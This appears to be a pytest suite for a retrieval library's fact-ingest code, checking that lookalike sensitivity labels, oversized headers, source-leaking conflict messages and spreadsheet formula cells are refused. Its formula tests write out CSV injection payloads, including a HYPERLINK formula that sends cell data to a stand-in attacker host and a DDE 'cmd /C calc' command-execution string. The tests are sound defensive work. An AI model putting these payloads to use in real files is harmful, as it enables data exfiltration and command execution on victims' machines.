"""Facts ingest against hostile input (issue 25): lookalike and duplicate sensitivity labels are
RESTRICTED or refused, never open; the header check is linear and headers and rows are capped;
an error names a bounded number of keys; a key held by another source is one generic conflict
that names no source; spreadsheet formula cells are refused."""

from __future__ import annotations

import json
import re
import time

import pytest

from ragspine.stores.sqlite.fact_store import SQLiteFactStore
from ragspine.structured import FactFileError, StructuredChannel, ingest_facts
from ragspine.structured.glossary import Glossary
from ragspine.structured.ingest import CLASH_MESSAGE, MAX_FACT_COLUMNS, MAX_KEYS_NAMED, csv_rows
from ragspine.testing.lookalikes import RESTRICTED_LOOKALIKES, written_verbatim

COLUMNS = ("metric", "entity", "period", "value", "unit", "source_doc_id", "source_locator", "valid_as_of", "sensitivity")
ROW = {"metric": "revenue", "entity": "Kestrel", "period": "2024Q3", "value": "182", "source_doc_id": "memo",
       "source_locator": "para 1", "valid_as_of": "2024-10-30"}
LOOKALIKES = pytest.mark.parametrize("label", list(RESTRICTED_LOOKALIKES.values()), ids=list(RESTRICTED_LOOKALIKES))


@pytest.fixture
def store(tmp_path):
    s = SQLiteFactStore(tmp_path / "facts.db", library_id="lib")
    yield s
    s.close()


def _csv(rows: list[dict[str, str]]) -> str:
    import csv
    import io

    out = io.StringIO()
    writer = csv.DictWriter(out, COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _hidden(store) -> bool:
    channel = StructuredChannel(store, Glossary.default())
    return store.lookup("revenue", "KESTREL", "2024Q3") == [] and channel.query_metric("revenue", "Kestrel", "2024Q3").status == "not_found"


# -- 1. lookalike and duplicate labels ------------------------------------------------------------
@LOOKALIKES
@pytest.mark.parametrize("form", ["csv", "json", "jsonl", "rows"])
def test_a_lookalike_label_is_stored_as_restricted_and_never_answered(store, tmp_path, label, form) -> None:
    row = {**ROW, "sensitivity": label}
    if form == "rows":
        source: object = [row]
    else:
        path = tmp_path / f"facts.{form}"
        text = {"csv": lambda: _csv([row]), "json": lambda: json.dumps([row], ensure_ascii=False),
                "jsonl": lambda: json.dumps(row, ensure_ascii=False) + "\n"}[form]()
        path.write_text(text, encoding="utf-8")
        source = path
    assert ingest_facts(store, source).restricted == 1  # type: ignore[arg-type]
    assert [f.sensitivity for f in store.iter_facts(include_restricted=True)] == ["RESTRICTED"]
    assert _hidden(store)


def test_a_lookalike_label_stored_verbatim_is_never_answered(store) -> None:
    with written_verbatim():
        ingest_facts(store, [{**ROW, "sensitivity": "RESTRICTED\u200b"}])
    assert [f.sensitivity for f in store.iter_facts(include_restricted=True)] == ["RESTRICTED\u200b"]  # as an older release stored it
    assert store.iter_facts() == [] and _hidden(store)


@pytest.mark.parametrize("row, words", [
    ({**ROW, "sensitivity": "RESTRICTED", "Sensitivity": "PUBLIC"}, "field sensitivity: is given twice ('sensitivity' and 'Sensitivity')"),
    ({**ROW, "sensitivity": "RESTRICTED", " SENSITIVITY ": "PUBLIC"}, "is given twice"),
    ({**ROW, "sensitivity": None}, "field sensitivity: is null; give a label"),
    ({**ROW, "ｓｅｎｓｉｔｉｖｉｔｙ": "RESTRICTED"}, "unknown field"),
])
def test_duplicate_and_null_labels_are_refused(store, row, words) -> None:
    with pytest.raises(FactFileError, match=re.escape(words)):
        ingest_facts(store, [row])
    assert store.count(include_inactive=True) == 0


def test_a_csv_header_naming_sensitivity_twice_is_refused(store, tmp_path) -> None:
    path = tmp_path / "f.csv"
    path.write_text("metric,entity,period,value,source_doc_id,source_locator,valid_as_of,sensitivity,Sensitivity\n"
                    "revenue,Kestrel,2024Q3,1,m,p,2024-10-30,RESTRICTED,PUBLIC\n", encoding="utf-8")
    with pytest.raises(FactFileError, match="field sensitivity: appears twice in the header"):
        ingest_facts(store, path)


# -- 2. linear header check, capped columns and keys ------------------------------------------------
def test_a_wide_header_is_refused_at_once_naming_the_limit() -> None:
    header = ",".join(f"c{i}" for i in range(40_000))  # was 67.6 s (a quadratic duplicate check)
    start = time.perf_counter()
    with pytest.raises(FactFileError) as info:
        csv_rows("csv", header + "\n" + ",".join("x" * 40_000) + "\n")
    assert time.perf_counter() - start < 0.5
    assert f"the header has 40,000 columns; a fact has at most {MAX_FACT_COLUMNS} (MAX_FACT_COLUMNS)" in str(info.value)
    assert len(str(info.value)) < 400


def test_each_repeated_column_is_named() -> None:
    header = ",".join(["metric"] * MAX_FACT_COLUMNS)
    with pytest.raises(FactFileError) as info:
        csv_rows("csv", header + "\n")
    assert [str(e) for e in info.value.errors].count("file, field metric: appears twice in the header") == MAX_FACT_COLUMNS - 1


def test_a_json_row_over_the_cap_is_one_short_error(store) -> None:
    row = {**ROW, **{f"k{i}": "x" * 50 for i in range(20_000)}}
    with pytest.raises(FactFileError) as info:
        ingest_facts(store, [row])
    assert [str(e) for e in info.value.errors] == [
        f"row 1: the row has 20,007 keys; a fact has at most {MAX_FACT_COLUMNS} (MAX_FACT_COLUMNS) — the fields are"
        " metric, entity, period, channel, value, unit, source_doc_id, source_locator, valid_as_of, sensitivity"]


def test_unknown_keys_are_named_at_most_five_at_a_time(store, tmp_path) -> None:
    long = "y" * 5000
    row = {**ROW, long: "1", **{f"k{i}": "x" for i in range(30)}}
    with pytest.raises(FactFileError) as info:
        ingest_facts(store, [row])
    fields = [e.field for e in info.value.errors]
    assert fields == [long[:63] + "…", "k0", "k1", "k2", "k3", ""] and MAX_KEYS_NAMED == 5
    assert "and 26 more unknown fields" in info.value.errors[-1].message
    path = tmp_path / "f.csv"
    path.write_text(",".join(COLUMNS + tuple(f"k{i}" for i in range(40))) + "\n", encoding="utf-8")  # 49 columns: under the cap
    with pytest.raises(FactFileError) as info:
        ingest_facts(store, path)
    assert [e.field for e in info.value.errors] == ["k0", "k1", "k2", "k3", "k4", ""]
    assert "and 35 more unknown columns" in str(info.value)


# -- 3. a key held by another source: one answer, whoever holds it ----------------------------------
def test_a_clash_reads_the_same_whether_the_holder_is_restricted_or_not(store) -> None:
    ingest_facts(store, [{**ROW, "source_doc_id": "kestrel/board-memo-q3", "sensitivity": "RESTRICTED"},
                         {**ROW, "metric": "gross margin", "value": "41", "source_doc_id": "kestrel/q3-results"}])
    answers = []
    for metric in ("revenue", "gross margin"):
        with pytest.raises(FactFileError) as info:
            ingest_facts(store, [{**ROW, "metric": metric, "source_doc_id": "probe"}])
        answers.append(str(info.value))
    assert answers[0] == answers[1] == f"rows: 1 problem, nothing was written: row 1, field metric/entity/period/channel: {CLASH_MESSAGE}"
    assert "kestrel" not in answers[0] and store.source_ids() == ["kestrel/board-memo-q3", "kestrel/q3-results"]


# -- 4. spreadsheet formulas ------------------------------------------------------------------------
@pytest.mark.parametrize("field, cell", [
    ("source_locator", '=HYPERLINK("http://evil.example/?x="&A1,"para 1")'),
    ("source_locator", "@SUM(A1:A9)"),
    ("source_locator", "+1+cmd|' /C calc'!A0"),
    ("source_locator", "-2+3"),
    ("source_locator", "＝HYPERLINK(\"http://evil.example\")"),
    ("source_doc_id", "=1+1"),
    ("unit", "=A1"),
    ("sensitivity", "=IF(1,\"RESTRICTED\",\"PUBLIC\")"),
])
def test_a_formula_cell_is_refused(store, tmp_path, field, cell) -> None:
    path = tmp_path / "f.csv"
    path.write_text(_csv([{**ROW, field: cell}]), encoding="utf-8")
    with pytest.raises(FactFileError, match=f"row 1 \\(line 2\\), field {field}: .* starts with .* like a spreadsheet formula"):
        ingest_facts(store, path)
    assert store.count(include_inactive=True) == 0


def test_numbers_and_plain_text_are_not_formulas(store) -> None:
    ingest_facts(store, [{**ROW, "value": "-3", "source_locator": "-12"}, {**ROW, "metric": "gross margin", "source_locator": "p. 2 = table"}])
    assert sorted(f.source_locator for f in store.iter_facts()) == ["-12", "p. 2 = table"]
